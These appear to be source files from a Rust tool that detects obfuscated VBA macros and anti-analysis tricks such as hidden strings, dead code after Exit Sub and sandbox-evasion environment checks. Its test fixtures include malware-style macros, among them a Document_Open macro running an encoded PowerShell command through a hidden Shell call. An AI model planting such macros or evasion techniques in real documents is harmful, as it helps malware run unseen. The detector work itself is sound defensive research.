//! cooldown.
//!
//! Only [`FailureClass::Fatal`](crate::scan::FailureClass::Fatal)
//! outcomes count as failures here: a document that times out or fails to
//! parse got a perfectly good service answer. Fatal means the machinery
//! itself (a worker process, twice in a row) died — the one signal that
//! predicts the *next* request will fare no better.

use std::sync::Mutex;
use std::time::{Duration, Instant};

use vbadet_metrics::{MetricsSink, Stage};

/// Verdict of [`Breaker::admit`] for one scan request.
pub(crate) enum Admission {
    /// Run it. `probe` marks the single half-open trial request; its
    /// outcome decides whether the breaker closes or re-opens.
    Admit { probe: bool },
    /// Breaker is open: reject without touching a worker.
    Reject {
        /// Milliseconds until the next probe window, for the client.
        retry_ms: u64,
    },
}

#[derive(Clone, Copy)]
enum State {
    /// Normal operation, counting consecutive service failures.
    Closed { failures: u32 },
    /// Rejecting everything until the cooldown elapses. `opens` counts
    /// how many times the breaker has opened without an intervening
    /// close, which is the exponent of the cooldown.
    Open { until: Instant, opens: u32 },
    /// Cooldown elapsed; exactly one probe is in flight.
    HalfOpen { opens: u32 },
}

pub(crate) struct Breaker {
    threshold: u32,
    backoff_base: Duration,
    state: Mutex<State>,
    metrics: MetricsSink,
}

impl Breaker {
    pub(crate) fn new(threshold: u32, backoff_base: Duration, metrics: MetricsSink) -> Self {
        Breaker {
            threshold: threshold.max(1),
            backoff_base,
            state: Mutex::new(State::Closed { failures: 0 }),
            metrics,
        }
    }

    fn cooldown(&self, opens: u32) -> Duration {
        // Same shape as the isolate slot's respawn backoff: doubling,
        // capped at 2^6 so a long outage cannot push retries out forever.
        self.backoff_base * 2u32.pow(opens.saturating_sub(1).min(6))
    }

    fn open(&self, opens: u32) -> State {
        self.metrics.record(Stage::ServeBreakerOpens, 1);
        State::Open {
            until: Instant::now() + self.cooldown(opens),
            opens,
        }
    }

    /// Gate for one scan request.
    pub(crate) fn admit(&self) -> Admission {
        let mut state = self.state.lock().unwrap();
        match *state {
            State::Closed { .. } => Admission::Admit { probe: false },
            State::Open { until, opens } => {
                let now = Instant::now();
                if now >= until {
                    *state = State::HalfOpen { opens };
                    Admission::Admit { probe: true }
                } else {
                    self.metrics.record(Stage::ServeBreakerRejects, 1);
                    Admission::Reject {
                        retry_ms: (until - now).as_millis() as u64,
                    }
                }
            }
            State::HalfOpen { .. } => {
                // The one probe slot is taken; everyone else waits.
                self.metrics.record(Stage::ServeBreakerRejects, 1);
                Admission::Reject {
                    retry_ms: self.backoff_base.as_millis() as u64,
                }
            }
        }
    }

    /// Reports the service outcome of an admitted request.
    /// `service_failure` is "the machinery died", not "the scan failed".
    pub(crate) fn report(&self, probe: bool, service_failure: bool) {
        let mut state = self.state.lock().unwrap();
        match (*state, probe, service_failure) {
            // Probe verdicts only matter while we are actually half-open;
            // a stale probe outcome (state already moved on) is ignored.
            (State::HalfOpen { .. }, true, false) => *state = State::Closed { failures: 0 },
            (State::HalfOpen { opens }, true, true) => *state = self.open(opens + 1),
            // Ordinary requests: only the closed state keeps score.
            // Failures landing while open/half-open are stragglers
            // admitted before the breaker tripped.
            (State::Closed { .. }, false, false) => *state = State::Closed { failures: 0 },
            (State::Closed { failures }, false, true) => {
                let failures = failures + 1;
                *state = if failures >= self.threshold {
                    self.open(1)
                } else {
                    State::Closed { failures }
                };
            }
            _ => {}
        }
    }

    /// The admitted probe never ran (shed at the queue, connection died
    /// before dispatch): return to the open state with the same cooldown
    /// so the next admit can mint a fresh probe.
    pub(crate) fn probe_abandoned(&self) {
        let mut state = self.state.lock().unwrap();
        if let State::HalfOpen { opens } = *state {
            *state = State::Open {
                until: Instant::now() + self.cooldown(opens),
                opens,
            };
        }
    }

    /// Force-closes the breaker, clearing the failure count. A successful
    /// model hot-reload calls this: an open breaker is evidence against
    /// the *old* generation's machinery, and the swap that replaced it is
    /// exactly the remediation the probe cycle exists to discover.
    pub(crate) fn close(&self) {
        *self.state.lock().unwrap() = State::Closed { failures: 0 };
    }

    /// Stable label for the `health` verb.
    pub(crate) fn state_label(&self) -> &'static str {
        match *self.state.lock().unwrap() {
            State::Closed { .. } => "closed",
            State::Open { .. } => "open",
            State::HalfOpen { .. } => "half-open",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn breaker(threshold: u32, backoff_ms: u64) -> Breaker {
        Breaker::new(
            threshold,
            Duration::from_millis(backoff_ms),
            MetricsSink::enabled(),
        )
    }

    fn admitted(b: &Breaker) -> bool {
        matches!(b.admit(), Admission::Admit { .. })
    }

    #[test]
    fn opens_after_threshold_consecutive_failures() {
        let b = breaker(3, 10);
        b.report(false, true);
        b.report(false, true);
        assert_eq!(b.state_label(), "closed");
        b.report(false, true);
        assert_eq!(b.state_label(), "open");
        match b.admit() {
            Admission::Reject { .. } => {}
            Admission::Admit { .. } => panic!("open breaker admitted a request"),
        }
    }

    #[test]
    fn a_success_resets_the_failure_count() {
        let b = breaker(2, 10);
        b.report(false, true);
        b.report(false, false);
        b.report(false, true);
        assert_eq!(b.state_label(), "closed", "non-consecutive failures");
    }

    #[test]
    fn half_open_admits_exactly_one_probe_and_closes_on_success() {
        let b = breaker(1, 5);
        b.report(false, true);
        assert_eq!(b.state_label(), "open");
        std::thread::sleep(Duration::from_millis(10));
        match b.admit() {
            Admission::Admit { probe } => assert!(probe, "first post-cooldown admit is the probe"),
            Admission::Reject { .. } => panic!("cooldown elapsed but still rejecting"),
        }
        assert!(!admitted(&b), "second request while the probe is out");
        b.report(true, false);
        assert_eq!(b.state_label(), "closed");
        assert!(admitted(&b));
    }

    #[test]
    fn probe_failure_reopens_with_a_longer_cooldown() {
        let b = breaker(1, 5);
        b.report(false, true);
        std::thread::sleep(Duration::from_millis(10));
        assert!(admitted(&b));
        b.report(true, true);
        assert_eq!(b.state_label(), "open");
        // First cooldown was 5ms; the re-open doubles it, so 6ms in is
        // still closed to traffic.
        std::thread::sleep(Duration::from_millis(6));
        assert!(!admitted(&b), "doubled cooldown should still be running");
        std::thread::sleep(Duration::from_millis(10));
        assert!(admitted(&b));
    }

    #[test]
    fn abandoned_probe_returns_to_open() {
        let b = breaker(1, 5);
        b.report(false, true);
        std::thread::sleep(Duration::from_millis(10));
        assert!(admitted(&b));
        assert_eq!(b.state_label(), "half-open");
        b.probe_abandoned();
        assert_eq!(b.state_label(), "open");
        std::thread::sleep(Duration::from_millis(10));
        assert!(admitted(&b), "a fresh probe is minted after the cooldown");
    }

    #[test]
    fn straggler_failures_do_not_disturb_open_or_half_open() {
        let b = breaker(1, 5);
        b.report(false, true);
        b.report(false, true);
        assert_eq!(b.state_label(), "open");
        std::thread::sleep(Duration::from_millis(10));
        assert!(admitted(&b));
        b.report(false, true);
        assert_eq!(b.state_label(), "half-open", "straggler must not re-open");
        b.report(true, false);
        assert_eq!(b.state_label(), "closed");
    }

    #[test]
    fn close_clears_any_state() {
        let b = breaker(1, 60_000);
        b.report(false, true);
        assert_eq!(b.state_label(), "open");
        b.close();
        assert_eq!(b.state_label(), "closed");
        assert!(admitted(&b), "no cooldown survives a forced close");
    }

    #[test]
    fn rejections_and_opens_land_in_the_histograms() {
        let sink = MetricsSink::enabled();
        let b = Breaker::new(1, Duration::from_millis(50), sink.clone());
        b.report(false, true);
        let _ = b.admit();
        let snap = sink.snapshot().unwrap();
        assert_eq!(snap.histograms["serve.breaker_opens"].count, 1);
        assert_eq!(snap.histograms["serve.breaker_rejects"].count, 1);
    }
}
