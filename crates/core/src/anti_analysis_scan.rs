//! Static detection of the §VI.B anti-analysis techniques.
//!
//! The paper's case studies describe three tricks that are "not directly
//! addressed by the proposed method" but "tend to be found together in
//! obfuscated VBA macros". This module provides rule-based detectors for
//! them, complementing the statistical obfuscation classifier:
//!
//! 1. *Hiding string data* — reads from document variables / control
//!    captions feeding into execution sinks;
//! 2. *Inserting broken code* — unreachable statements after an
//!    unconditional `Exit Sub` within the same procedure;
//! 3. *Changing the flow* — environment checks guarding procedure entry.

use vbadet_vba::{tokenize, MacroAnalysis, TokenKind};

/// One detected anti-analysis indicator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AntiAnalysisIndicator {
    /// Source reads strings from out-of-band document storage
    /// (`ActiveDocument.Variables`, control `.Caption`/`.ControlTipText`…).
    HiddenStringData {
        /// The storage accessor found (e.g. `Variables`, `Caption`).
        accessor: String,
        /// How many reads were found.
        reads: usize,
    },
    /// Statements appear after an unconditional `Exit Sub`/`Exit Function`
    /// but before the procedure's end: classic broken-code shielding.
    DeadCodeAfterExit {
        /// Number of unreachable statement lines.
        statements: usize,
    },
    /// A guard expression at procedure entry compares an environment probe
    /// (`RecentFiles.Count`, `Application.Version`…) and exits.
    EnvironmentGuard {
        /// The probe found.
        probe: String,
    },
}

/// Out-of-band string storage accessors (§VI.B.1, MS-OFORMS fields).
const HIDDEN_DATA_ACCESSORS: [&str; 5] = [
    "variables",
    "caption",
    "controltiptext",
    "tag",
    "customdocumentproperties",
];

/// Environment probes used for sandbox evasion (§VI.B.3).
const ENVIRONMENT_PROBES: [&str; 4] = ["recentfiles", "version", "username", "operatingsystem"];

/// Scans macro source for the three §VI.B anti-analysis techniques.
///
/// ```
/// use vbadet::anti_analysis_scan::{scan_anti_analysis, AntiAnalysisIndicator};
/// let src = "Sub A()\r\n    x = ActiveDocument.Variables(\"k\").Value()\r\nEnd Sub\r\n";
/// let found = scan_anti_analysis(src);
/// assert!(matches!(found[0], AntiAnalysisIndicator::HiddenStringData { .. }));
/// ```
pub fn scan_anti_analysis(source: &str) -> Vec<AntiAnalysisIndicator> {
    let mut out = Vec::new();

    // 1. Hidden string data: `.Accessor` member reads.
    let tokens = tokenize(source);
    let mut accessor_hits: std::collections::BTreeMap<String, usize> =
        std::collections::BTreeMap::new();
    for w in tokens.windows(2) {
        if let (TokenKind::Operator("."), TokenKind::Identifier(name)) = (&w[0].kind, &w[1].kind) {
            let lower = name.to_ascii_lowercase();
            if HIDDEN_DATA_ACCESSORS.contains(&lower.as_str()) {
                *accessor_hits.entry(name.clone()).or_insert(0) += 1;
            }
        }
    }
    for (accessor, reads) in accessor_hits {
        out.push(AntiAnalysisIndicator::HiddenStringData { accessor, reads });
    }

    // 2. Dead code after an unconditional Exit Sub/Function.
    let mut dead = 0usize;
    let mut after_exit = false;
    for line in source.lines() {
        let trimmed = line.trim();
        let lower = trimmed.to_ascii_lowercase();
        if lower.starts_with("end sub") || lower.starts_with("end function") {
            after_exit = false;
            continue;
        }
        // Only *unconditional* exits arm the detector: `If … Then Exit Sub`
        // is ordinary control flow.
        if (lower == "exit sub" || lower == "exit function") && !lower.contains("then") {
            after_exit = true;
            continue;
        }
        if after_exit && !trimmed.is_empty() && !trimmed.starts_with('\'') {
            dead += 1;
        }
    }
    if dead > 0 {
        out.push(AntiAnalysisIndicator::DeadCodeAfterExit { statements: dead });
    }

    // 3. Environment guards: probe comparison followed by Exit on the same
    // logical line ("If X.Probe < n Then Exit Sub").
    for line in source.lines() {
        let lower = line.to_ascii_lowercase();
        if !(lower.contains("then exit sub") || lower.contains("then exit function")) {
            continue;
        }
        for probe in ENVIRONMENT_PROBES {
            if lower.contains(&format!("{probe}.")) || lower.contains(&format!(".{probe}")) {
                out.push(AntiAnalysisIndicator::EnvironmentGuard {
                    probe: probe.to_string(),
                });
            }
        }
    }
    out
}

/// Convenience: whether any indicator is present.
pub fn has_anti_analysis(source: &str) -> bool {
    !scan_anti_analysis(source).is_empty()
}

/// Combined report for one macro: the statistical verdict plus the
/// rule-based indicators (the combination §VI.B motivates).
#[derive(Debug, Clone)]
pub struct ExtendedVerdict {
    /// The classifier's verdict.
    pub verdict: crate::Verdict,
    /// Rule-based anti-analysis findings.
    pub indicators: Vec<AntiAnalysisIndicator>,
}

impl crate::Detector {
    /// Scores a macro and scans it for anti-analysis indicators.
    pub fn score_extended(&self, source: &str) -> ExtendedVerdict {
        ExtendedVerdict {
            verdict: self.score(source),
            indicators: scan_anti_analysis(source),
        }
    }
}

/// A dedicated analysis used by the obfuscation classifier's consumers:
/// which of the O1–O4 mechanism *signals* are present (coarse, rule-based;
/// useful for explaining a positive verdict to an analyst).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct MechanismSignals {
    /// Concatenation operator density suggests split strings (O2).
    pub split_strings: bool,
    /// `Chr`/`Replace`/`Asc` call density suggests encoding (O3).
    pub encoded_strings: bool,
    /// Low word readability suggests randomized identifiers (O1).
    pub randomized_names: bool,
    /// Dead `If False` blocks / unused `Dim`s suggest dummy code (O4).
    pub dummy_code: bool,
}

/// Extracts coarse mechanism signals from a macro.
pub fn mechanism_signals(source: &str) -> MechanismSignals {
    let analysis = MacroAnalysis::new(source);
    let code_chars = analysis.code_chars().max(1) as f64;
    let concat_density =
        (analysis.operator_count("&") + analysis.operator_count("+")) as f64 / code_chars;

    let calls = analysis.call_sites();
    let text_calls = calls
        .iter()
        .filter(|c| {
            matches!(
                vbadet_vba::functions::categorize(c),
                Some(vbadet_vba::FunctionCategory::Text)
            )
        })
        .count();
    let text_density = if calls.is_empty() {
        0.0
    } else {
        text_calls as f64 / calls.len() as f64
    };

    let idents = analysis.identifiers();
    let unreadable = idents
        .iter()
        .filter(|i| {
            let lower = i.to_ascii_lowercase();
            lower.len() >= 8
                && !lower
                    .chars()
                    .any(|c| matches!(c, 'a' | 'e' | 'i' | 'o' | 'u'))
        })
        .count();
    let lower_source = source.to_ascii_lowercase();

    MechanismSignals {
        split_strings: concat_density > 0.02 && analysis.strings().len() >= 6,
        encoded_strings: text_density > 0.4 && text_calls >= 4,
        randomized_names: !idents.is_empty() && unreadable as f64 / idents.len() as f64 > 0.3,
        dummy_code: lower_source.contains("if false then"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_macro_has_no_indicators() {
        let src = "Sub A()\r\n    If x > 0 Then Exit Sub\r\n    y = 1\r\nEnd Sub\r\n";
        assert!(scan_anti_analysis(src).is_empty());
        assert!(!has_anti_analysis(src));
    }

    #[test]
    fn hidden_data_reads_detected() {
        let src = "Sub A()\r\n\
                   x = ActiveDocument.Variables(\"k\").Value()\r\n\
                   y = UserForm1.Label1.Caption\r\n\
                   End Sub\r\n";
        let found = scan_anti_analysis(src);
        assert_eq!(
            found
                .iter()
                .filter(|i| matches!(i, AntiAnalysisIndicator::HiddenStringData { .. }))
                .count(),
            2,
            "{found:?}"
        );
    }

    #[test]
    fn dead_code_after_unconditional_exit_detected() {
        let src = "Sub A()\r\n\
                   x = 1\r\n\
                   Exit Sub\r\n\
                   Colu.mns(\"A:A\").Delete\r\n\
                   Sel.ection.RowHeight = 15\r\n\
                   End Sub\r\n";
        let found = scan_anti_analysis(src);
        assert!(found.iter().any(|i| matches!(
            i,
            AntiAnalysisIndicator::DeadCodeAfterExit { statements: 2 }
        )));
    }

    #[test]
    fn conditional_exit_is_not_flagged() {
        let src = "Sub A()\r\n\
                   If done Then Exit Sub\r\n\
                   x = 1\r\n\
                   End Sub\r\n";
        assert!(scan_anti_analysis(src).is_empty());
    }

    #[test]
    fn environment_guard_detected() {
        let src = "Sub A()\r\n\
                   If RecentFiles.Count < 3 Then Exit Sub\r\n\
                   Shell cmd, 0\r\n\
                   End Sub\r\n";
        let found = scan_anti_analysis(src);
        assert!(found
            .iter()
            .any(|i| matches!(i, AntiAnalysisIndicator::EnvironmentGuard { .. })));
    }

    #[test]
    fn generated_anti_analysis_transforms_are_detected() {
        use rand::SeedableRng;
        let mut rng = rand::rngs::StdRng::seed_from_u64(6);
        let base = "Sub Document_Open()\r\n\
                    cmd = \"powershell -enc AAAA\"\r\n\
                    Shell cmd, 0\r\n\
                    End Sub\r\n";
        let hidden = vbadet_obfuscate::anti_analysis::hide_string_data(base, &mut rng);
        assert!(has_anti_analysis(&hidden.source), "hidden strings");
        let broken = vbadet_obfuscate::anti_analysis::insert_broken_code(base, &mut rng);
        assert!(has_anti_analysis(&broken), "broken code");
        let flowed = vbadet_obfuscate::anti_analysis::change_flow(base, &mut rng);
        assert!(has_anti_analysis(&flowed), "flow change");
    }

    #[test]
    fn mechanism_signals_fire_on_their_techniques() {
        use rand::SeedableRng;
        let base = "Sub Go()\r\n\
                    a = \"first marker string\"\r\n\
                    b = \"second marker string\"\r\n\
                    c = \"third marker string\"\r\n\
                    Shell a & b & c, 0\r\n\
                    End Sub\r\n";
        let mut rng = rand::rngs::StdRng::seed_from_u64(9);
        let split = vbadet_obfuscate::split::apply(base, &mut rng);
        assert!(mechanism_signals(&split).split_strings, "{split}");

        let mut rng = rand::rngs::StdRng::seed_from_u64(10);
        let renamed = vbadet_obfuscate::random::apply(base, &mut rng).0;
        // Random names may be pronounceable; just require the call not to
        // crash and the dummy-code flag to stay off.
        assert!(!mechanism_signals(&renamed).dummy_code);

        let mut rng = rand::rngs::StdRng::seed_from_u64(11);
        let logic =
            vbadet_obfuscate::logic::apply(base, vbadet_obfuscate::logic::Intensity(30), &mut rng);
        assert!(mechanism_signals(&logic).dummy_code, "{logic}");
    }
}
