//! The paper's preprocessing step (§IV.B): drop insignificant macros
//! (< 150 bytes — "only comments or practice code") and eliminate
//! duplicates across the corpus.

use std::collections::HashSet;

/// Minimum meaningful macro size per §IV.B.
pub const MIN_MACRO_BYTES: usize = 150;

/// Applies the length filter and cross-corpus dedup, preserving first-seen
/// order. Returns the indices of survivors into the input slice.
pub fn preprocess_indices<S: AsRef<str>>(sources: &[S]) -> Vec<usize> {
    let mut seen: HashSet<&str> = HashSet::new();
    let mut keep = Vec::new();
    for (i, source) in sources.iter().enumerate() {
        let code = source.as_ref();
        if code.len() < MIN_MACRO_BYTES {
            continue;
        }
        if seen.insert(code) {
            keep.push(i);
        }
    }
    keep
}

/// Convenience wrapper returning the surviving sources themselves.
pub fn preprocess_macros(sources: Vec<String>) -> Vec<String> {
    let keep = preprocess_indices(&sources);
    let keep_set: HashSet<usize> = keep.into_iter().collect();
    sources
        .into_iter()
        .enumerate()
        .filter(|(i, _)| keep_set.contains(i))
        .map(|(_, s)| s)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn short_macros_are_dropped() {
        let long = "x".repeat(200);
        let sources = vec!["' tiny".to_string(), long.clone()];
        assert_eq!(preprocess_macros(sources), vec![long]);
    }

    #[test]
    fn duplicates_are_dropped_keeping_first() {
        let a = "a".repeat(200);
        let b = "b".repeat(200);
        let sources = vec![a.clone(), b.clone(), a.clone()];
        assert_eq!(preprocess_macros(sources), vec![a, b]);
    }

    #[test]
    fn boundary_length() {
        let at = "y".repeat(MIN_MACRO_BYTES);
        let below = "y".repeat(MIN_MACRO_BYTES - 1);
        assert_eq!(preprocess_macros(vec![below]), Vec::<String>::new());
        assert_eq!(preprocess_macros(vec![at.clone()]), vec![at]);
    }

    #[test]
    fn indices_are_stable() {
        let sources = vec![
            "s".to_string(),
            "q".repeat(300),
            "q".repeat(300),
            "r".repeat(300),
        ];
        assert_eq!(preprocess_indices(&sources), vec![1, 3]);
    }
}
