//! Resource limits for hostile-input scanning.
//!
//! Malware-scanning pipelines parse attacker-controlled bytes by design, so
//! every allocation and loop in the container stack must be bounded by
//! something the *scanner* chooses, not something the *file* declares.
//! [`ScanLimits`] aggregates the per-layer caps and is threaded from the
//! batch engine down through ZIP, OLE and MS-OVBA parsing.

use vbadet_ole::OleLimits;
use vbadet_ovba::OvbaLimits;
use vbadet_zip::ZipLimits;

/// Resource caps applied while scanning one document.
///
/// The defaults are generous for real Office documents (the largest
/// legitimate `vbaProject.bin` streams are a few megabytes) while keeping
/// the worst-case memory for a hostile input bounded to hundreds of
/// megabytes rather than the petabytes a decompression bomb can declare.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ScanLimits {
    /// ZIP-layer caps: central-directory entry count, inflated member size.
    pub zip: ZipLimits,
    /// OLE-layer caps: sector count, directory entries, stream size.
    pub ole: OleLimits,
    /// VBA-layer caps: module count, decompressed module/dir stream sizes.
    pub ovba: OvbaLimits,
    /// Maximum on-disk file size accepted by the batch engine. Checked by
    /// `stat` *before* the file is read, so an oversized input is rejected
    /// as a typed outcome without its bytes ever being allocated.
    pub max_file_size: u64,
}

impl Default for ScanLimits {
    fn default() -> Self {
        ScanLimits {
            zip: ZipLimits::default(),
            ole: OleLimits::default(),
            ovba: OvbaLimits::default(),
            max_file_size: 1 << 30,
        }
    }
}

impl ScanLimits {
    /// A tightened profile for untrusted bulk scanning: an order of
    /// magnitude below the defaults on every decompressed-size cap, so a
    /// single hostile document in a large batch cannot stall the engine.
    pub fn strict() -> Self {
        ScanLimits {
            zip: ZipLimits {
                max_entries: 1 << 12,
                max_member_bytes: 1 << 24,
            },
            ole: OleLimits {
                max_sectors: 1 << 18,
                max_dir_entries: 1 << 12,
                max_stream_bytes: 1 << 24,
                max_dir_depth: 64,
            },
            ovba: OvbaLimits {
                max_modules: 256,
                max_module_bytes: 1 << 22,
                max_dir_bytes: 1 << 20,
            },
            max_file_size: 1 << 26,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strict_is_no_looser_than_default() {
        let d = ScanLimits::default();
        let s = ScanLimits::strict();
        assert!(s.zip.max_entries <= d.zip.max_entries);
        assert!(s.zip.max_member_bytes <= d.zip.max_member_bytes);
        assert!(s.ole.max_sectors <= d.ole.max_sectors);
        assert!(s.ole.max_dir_entries <= d.ole.max_dir_entries);
        assert!(s.ole.max_stream_bytes <= d.ole.max_stream_bytes);
        assert!(s.ole.max_dir_depth <= d.ole.max_dir_depth);
        assert!(s.ovba.max_modules <= d.ovba.max_modules);
        assert!(s.ovba.max_module_bytes <= d.ovba.max_module_bytes);
        assert!(s.ovba.max_dir_bytes <= d.ovba.max_dir_bytes);
        assert!(s.max_file_size <= d.max_file_size);
    }
}
