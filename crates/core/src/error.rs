use std::error::Error;
use std::fmt;

/// Errors from document scanning.
#[derive(Debug)]
#[non_exhaustive]
pub enum DetectError {
    /// The bytes are neither a ZIP (OOXML) nor an OLE compound file.
    UnknownContainer,
    /// The OOXML archive has no `vbaProject.bin` part.
    NoVbaPart,
    /// Container-level parse failure.
    Zip(vbadet_zip::ZipError),
    /// Compound-file parse failure.
    Ole(vbadet_ole::OleError),
    /// VBA project decode failure.
    Ovba(vbadet_ovba::OvbaError),
}

impl fmt::Display for DetectError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DetectError::UnknownContainer => {
                write!(f, "not an OOXML or OLE compound document")
            }
            DetectError::NoVbaPart => write!(f, "OOXML archive has no vbaProject.bin part"),
            DetectError::Zip(e) => write!(f, "zip error: {e}"),
            DetectError::Ole(e) => write!(f, "ole error: {e}"),
            DetectError::Ovba(e) => write!(f, "vba project error: {e}"),
        }
    }
}

impl Error for DetectError {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        match self {
            DetectError::Zip(e) => Some(e),
            DetectError::Ole(e) => Some(e),
            DetectError::Ovba(e) => Some(e),
            _ => None,
        }
    }
}

impl From<vbadet_zip::ZipError> for DetectError {
    fn from(e: vbadet_zip::ZipError) -> Self {
        DetectError::Zip(e)
    }
}

impl From<vbadet_ole::OleError> for DetectError {
    fn from(e: vbadet_ole::OleError) -> Self {
        DetectError::Ole(e)
    }
}

impl From<vbadet_ovba::OvbaError> for DetectError {
    fn from(e: vbadet_ovba::OvbaError) -> Self {
        DetectError::Ovba(e)
    }
}
