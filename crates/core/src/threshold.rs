//! Decision-threshold tuning.
//!
//! The paper motivates F2 (recall-weighted) scoring: a missed obfuscated
//! macro is costlier than a false alarm. The classifiers' native thresholds
//! (0 on the decision score) are not F2-optimal, so this module selects an
//! operating point from validation scores — either maximizing F2 or hitting
//! a false-positive-rate budget.

use vbadet_ml::ConfusionMatrix;

/// How to pick the operating point.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ThresholdPolicy {
    /// Maximize Fβ on the validation scores.
    MaxFBeta(f64),
    /// The lowest threshold whose validation false-positive rate is at most
    /// this bound (recall-maximizing under an FPR budget).
    MaxFprAtMost(f64),
}

/// A tuned operating point and its validation metrics.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct OperatingPoint {
    /// Scores at or above this are classified positive.
    pub threshold: f64,
    /// Validation metrics at that threshold.
    pub f_beta: f64,
    /// Validation false-positive rate.
    pub fpr: f64,
    /// Validation recall.
    pub recall: f64,
}

/// Selects a threshold over validation `(scores, labels)` per `policy`.
///
/// Candidate thresholds are midpoints between adjacent distinct scores plus
/// the extremes, so every achievable confusion matrix is considered.
///
/// # Panics
///
/// Panics when inputs are empty or of different lengths.
pub fn tune_threshold(scores: &[f64], labels: &[bool], policy: ThresholdPolicy) -> OperatingPoint {
    assert!(!scores.is_empty(), "need validation scores");
    assert_eq!(scores.len(), labels.len());

    let mut sorted: Vec<f64> = scores.to_vec();
    sorted.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    sorted.dedup();
    let mut candidates = Vec::with_capacity(sorted.len() + 1);
    candidates.push(sorted[0] - 1.0);
    for pair in sorted.windows(2) {
        candidates.push((pair[0] + pair[1]) / 2.0);
    }
    candidates.push(sorted[sorted.len() - 1] + 1.0);

    let evaluate = |threshold: f64| -> (ConfusionMatrix, f64) {
        let predictions: Vec<bool> = scores.iter().map(|&s| s >= threshold).collect();
        let m = ConfusionMatrix::from_predictions(labels, &predictions);
        let fpr = if m.fp + m.tn == 0 {
            0.0
        } else {
            m.fp as f64 / (m.fp + m.tn) as f64
        };
        (m, fpr)
    };

    let beta = match policy {
        ThresholdPolicy::MaxFBeta(beta) => beta,
        ThresholdPolicy::MaxFprAtMost(_) => 2.0,
    };
    let mut best: Option<OperatingPoint> = None;
    for &threshold in &candidates {
        let (m, fpr) = evaluate(threshold);
        let point = OperatingPoint {
            threshold,
            f_beta: m.f_beta(beta),
            fpr,
            recall: m.recall(),
        };
        let better = match (policy, &best) {
            (_, None) => true,
            (ThresholdPolicy::MaxFBeta(_), Some(b)) => point.f_beta > b.f_beta,
            (ThresholdPolicy::MaxFprAtMost(bound), Some(b)) => {
                // Prefer feasible points; among feasible, maximize recall.
                let feasible = point.fpr <= bound;
                let best_feasible = b.fpr <= bound;
                match (feasible, best_feasible) {
                    (true, false) => true,
                    (false, true) => false,
                    (true, true) => point.recall > b.recall,
                    (false, false) => point.fpr < b.fpr,
                }
            }
        };
        if better {
            best = Some(point);
        }
    }
    best.expect("candidates non-empty")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn overlapping_scores() -> (Vec<f64>, Vec<bool>) {
        // Negatives around 0, positives around 2, overlap in [1, 1.5].
        let scores = vec![-1.0, -0.5, 0.0, 0.4, 1.1, 1.3, 1.2, 1.4, 1.9, 2.3, 2.6, 3.0];
        let labels = vec![
            false, false, false, false, false, false, true, true, true, true, true, true,
        ];
        (scores, labels)
    }

    #[test]
    fn max_f2_beats_default_zero_threshold() {
        let (scores, labels) = overlapping_scores();
        let point = tune_threshold(&scores, &labels, ThresholdPolicy::MaxFBeta(2.0));
        // Default 0.0 threshold misclassifies the 0.4..1.3 negatives.
        let default: Vec<bool> = scores.iter().map(|&s| s >= 0.0).collect();
        let default_f2 = ConfusionMatrix::from_predictions(&labels, &default).f_beta(2.0);
        assert!(
            point.f_beta >= default_f2,
            "{} vs {}",
            point.f_beta,
            default_f2
        );
        assert!(point.recall >= 0.8);
    }

    #[test]
    fn fpr_budget_is_respected_when_feasible() {
        let (scores, labels) = overlapping_scores();
        let point = tune_threshold(&scores, &labels, ThresholdPolicy::MaxFprAtMost(0.0));
        assert_eq!(point.fpr, 0.0);
        // Recall-maximal at zero FPR: threshold just above the largest
        // negative score (1.3), keeping positives >= 1.4.
        assert!(point.recall >= 4.0 / 6.0 - 1e-9, "{point:?}");
    }

    #[test]
    fn loose_budget_maximizes_recall() {
        let (scores, labels) = overlapping_scores();
        let point = tune_threshold(&scores, &labels, ThresholdPolicy::MaxFprAtMost(1.0));
        assert_eq!(point.recall, 1.0, "{point:?}");
    }

    #[test]
    fn perfect_separation_yields_perfect_point() {
        let scores = vec![0.0, 1.0, 10.0, 11.0];
        let labels = vec![false, false, true, true];
        let point = tune_threshold(&scores, &labels, ThresholdPolicy::MaxFBeta(2.0));
        assert_eq!(point.f_beta, 1.0);
        assert!(point.threshold > 1.0 && point.threshold < 10.0);
    }

    #[test]
    #[should_panic(expected = "validation scores")]
    fn empty_rejected() {
        let _ = tune_threshold(&[], &[], ThresholdPolicy::MaxFBeta(2.0));
    }
}
