//! Experiment drivers: one function per table/figure of the paper's
//! evaluation section (see DESIGN.md's experiment index). The bench crate's
//! binaries print these results in the paper's layout.

use crate::detector::ClassifierKind;
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory, FileSummary, MacroSample};
use vbadet_features::{j_features_from, v_features_from, FeatureSet};
use vbadet_ml::{cross_validate, CvOutcome};
use vbadet_vba::MacroAnalysis;

/// The macro evaluation set with both feature matrices precomputed (the
/// lexical analysis is shared between V and J extraction).
#[derive(Debug, Clone)]
pub struct ExperimentData {
    /// The labeled macros.
    pub macros: Vec<MacroSample>,
    /// V1–V15 per macro.
    pub v: Vec<Vec<f64>>,
    /// J1–J20 per macro.
    pub j: Vec<Vec<f64>>,
    /// Obfuscation ground truth per macro.
    pub labels: Vec<bool>,
}

impl ExperimentData {
    /// Generates the corpus for `spec` and extracts both feature sets.
    pub fn from_spec(spec: &CorpusSpec) -> Self {
        Self::from_macros(generate_macros(spec))
    }

    /// Extracts both feature sets from existing macros.
    pub fn from_macros(macros: Vec<MacroSample>) -> Self {
        let mut v = Vec::with_capacity(macros.len());
        let mut j = Vec::with_capacity(macros.len());
        let mut labels = Vec::with_capacity(macros.len());
        for m in &macros {
            let analysis = MacroAnalysis::new(&m.source);
            v.push(v_features_from(&analysis).to_vec());
            j.push(j_features_from(&analysis).to_vec());
